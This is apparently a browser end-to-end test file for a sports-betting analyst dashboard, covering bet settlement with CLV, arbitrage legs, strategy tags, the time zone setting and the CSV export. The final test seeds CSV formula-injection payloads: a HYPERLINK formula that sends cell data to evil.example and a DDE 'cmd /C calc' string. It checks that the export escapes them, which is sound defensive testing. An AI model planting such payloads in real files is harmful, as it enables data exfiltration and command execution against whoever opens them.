"""The analyst's desk in a real browser against the real server: a bet moves from open to
settled with its CLV, an arbitrage is one row with two legs, three strategies make one row
with three tags, odds carry their sign, the time zone switch, phones do not scroll sideways,
and the CSV of a hostile feed holds no live formula."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

import pytest

from app.db import Database
from app.models import Game, QuoteRow, Recommendation, RecommendationLeg
from app.pipelines.stages.grade import grade_finished
from app.pipelines.stages.recommend import close_and_rerank
from tests.e2e.grid_dom import grid_rows, wait_grid_text

pytestmark = pytest.mark.e2e
BOOK = "e2e_book"  # a book only these tests bet at: the book filter shows just their rows
HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"x")'


def _db(live_server) -> Database:
    return Database(f"sqlite:///{(live_server.var_dir / 'dugout.sqlite3').resolve()}")


def _quote(game: str, side: str, book: str, price: int, at: datetime) -> QuoteRow:
    return QuoteRow(
        source="demo", game_key=game, market="h2h", side=side, book=book, price=price,
        point=None, last_update=at, collected_at=at,
    )  # fmt: skip


def _single(game: str, **kw) -> Recommendation:
    values = dict(
        bet_key=f"{game}|h2h|home|", kind="single", strategy="ev",
        strategies=["ev", "stale_line", "steam"], game_key=game, market="h2h", side="home",
        book=BOOK, price=150, point=None, ev=0.05, stake_units=1.5,
    )  # fmt: skip
    values.update(kw)
    return Recommendation(**values)


def _new_game(db: Database, start: datetime, home: str = "SEA", away: str = "BOS") -> str:
    key = f"e2e-{uuid.uuid4().hex[:8]}"
    with db.session() as s:
        s.add(Game(game_key=key, home=home, away=away, commence_time=start))
    return key


def _bets_page(page, live_server, book: str = BOOK):
    """The bets page filtered to one book from its address."""
    page.goto(f"{live_server.url}/bets?book={quote(book)}")
    page.wait_for_selector("#bets-table", timeout=90_000)


def _rows(page) -> list[dict[str, str]]:
    """The table's rows as {column title: cell text}."""
    return [r for r in grid_rows(page, "#bets-table") if r.get("Bet") is not None]


def _wait_rows(page, predicate: str, timeout: int = 90_000) -> None:
    wait_grid_text(page, "#bets-table", predicate, timeout)


def test_a_bet_moves_from_open_to_settled_with_its_clv(page_as, live_server) -> None:
    db = _db(live_server)
    now = datetime.now(UTC)
    game = _new_game(db, now + timedelta(hours=3))
    with db.session() as s:
        before = now - timedelta(minutes=10)
        s.add_all(
            [  # the sharp close: -130 / +120 devigs to about 54.7% home, fair about -121
                _quote(game, "home", "pinnacle", -130, before),
                _quote(game, "away", "pinnacle", 120, before),
                _quote(game, "home", BOOK, 150, before),
            ]
        )
        s.add(_single(game))
    page = page_as("viewer")
    _bets_page(page, live_server)
    _wait_rows(page, "text.includes('Seattle Mariners')")
    (row,) = [r for r in _rows(page) if "Seattle" in r["Game"]]
    assert row["Status"] == "open" and row["Price"] == "+150" and row["Price CLV"] == "—"
    assert row["Still offered"] == "yes" and row["Stake"] == "1.50 u"
    # first pitch comes, the close is captured, the game ends 5-2: graded by the real code
    with db.session() as s:
        g = s.query(Game).filter_by(game_key=game).one()
        g.commence_time = now - timedelta(minutes=5)
    with db.session() as s:
        close_and_rerank(s, now, ["demo"], frozenset({"pinnacle"}), "multiplicative")
    with db.session() as s:
        g = s.query(Game).filter_by(game_key=game).one()
        g.status, g.home_score, g.away_score, g.innings = "final", 5, 2, 9.0
    with db.session() as s:
        grade_finished(s, now + timedelta(hours=3))
    _bets_page(page, live_server)
    _wait_rows(page, "text.includes('Seattle Mariners') && text.includes('settled')")
    (row,) = [r for r in _rows(page) if "Seattle" in r["Game"]]
    d_fair = 1 / ((1 / (1 + 100 / 130)) / (1 / (1 + 100 / 130) + 1 / 2.2))
    expected = f"{(2.5 / d_fair - 1) * 100:+.2f}%"
    assert row["Status"] == "settled" and row["Result"] == "win"
    assert row["Price CLV"] == expected and row["Units"] == "+2.25 u"
    assert row["Close"] == "+150"


def test_arbitrage_is_one_row_with_two_legs(page_as, live_server) -> None:
    db = _db(live_server)
    game = _new_game(db, datetime.now(UTC) + timedelta(hours=4), "LAD", "SD")
    with db.session() as s:
        rec = _single(
            game, bet_key=f"{game}|h2h|arb|", kind="arbitrage", strategy="arbitrage",
            strategies=["arbitrage"], side="all", book=f"{BOOK}+lowvig", price=-3900,
            stake_units=2.0,
        )  # fmt: skip
        s.add(rec)
        s.flush()
        rec.legs = [
            RecommendationLeg(side="home", book=BOOK, price=105, stake_units=0.99),
            RecommendationLeg(side="away", book="lowvig", price=104, stake_units=1.01),
        ]
    page = page_as("viewer")
    _bets_page(page, live_server)
    _wait_rows(page, "text.includes('Arbitrage')")
    rows = [r for r in _rows(page) if "San Diego Padres" in r["Game"]]
    assert len(rows) == 1
    assert rows[0]["Legs"] == "SD ML +104 LowVig.ag 1.01 u / LAD ML +105 e2e_book 0.99 u"


def test_three_strategies_are_one_row_with_three_tags_and_signs(page_as, live_server) -> None:
    db = _db(live_server)
    game = _new_game(db, datetime.now(UTC) + timedelta(hours=5), "NYY", "TOR")
    with db.session() as s:
        s.add(_single(game, price=104))
    page = page_as("viewer")
    _bets_page(page, live_server)
    _wait_rows(page, "text.includes('New York Yankees')")
    rows = [r for r in _rows(page) if "Yankees" in r["Game"]]
    assert len(rows) == 1
    assert rows[0]["Strategies"] == "ev · stale_line · steam" and rows[0]["Price"] == "+104"


def test_time_zone_switch_is_kept(page_as, live_server) -> None:
    db = _db(live_server)
    start = datetime(2031, 7, 4, 23, 10, tzinfo=UTC)
    game = _new_game(db, start, "CHC", "STL")
    with db.session() as s:
        s.add(_single(game))
    page = page_as("viewer")
    _bets_page(page, live_server)
    _wait_rows(page, "text.includes('2031-07-04 19:10 EDT')")  # DUGOUT_DISPLAY_TZ's default
    page.select_option("#display-tz", "America/Los_Angeles")
    _wait_rows(page, "text.includes('2031-07-04 16:10 PDT')")
    _bets_page(page, live_server)  # a new load: the choice lives in the browser
    _wait_rows(page, "text.includes('2031-07-04 16:10 PDT')")
    assert page.input_value("#display-tz") == "America/Los_Angeles"


def test_csv_of_a_hostile_feed_has_no_live_formula(page_as, live_server) -> None:
    db = _db(live_server)
    game = _new_game(db, datetime.now(UTC) + timedelta(hours=6), "MIA", "ATL")
    with db.session() as s:
        s.add(_single(game, book="@SUM(1+1)*cmd|' /C calc'!A0", strategies=[HOSTILE]))
    page = page_as("viewer")
    _bets_page(page, live_server, book="@SUM")
    _wait_rows(page, "text.includes('Miami Marlins')")
    with page.expect_download(timeout=90_000) as info:
        page.click("#bets-csv")
    download = info.value
    assert download.suggested_filename == f"dugout-bets-{datetime.now(UTC).date()}.csv"
    rows = list(csv.reader(io.StringIO(Path(download.path()).read_text(encoding="utf-8"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + HOSTILE in cells and any(c.startswith("'@SUM") for c in cells)
    assert not any(c.startswith(("=", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith(("+", "-")) and not c[1:].replace(".", "").isdigit() for c in cells)
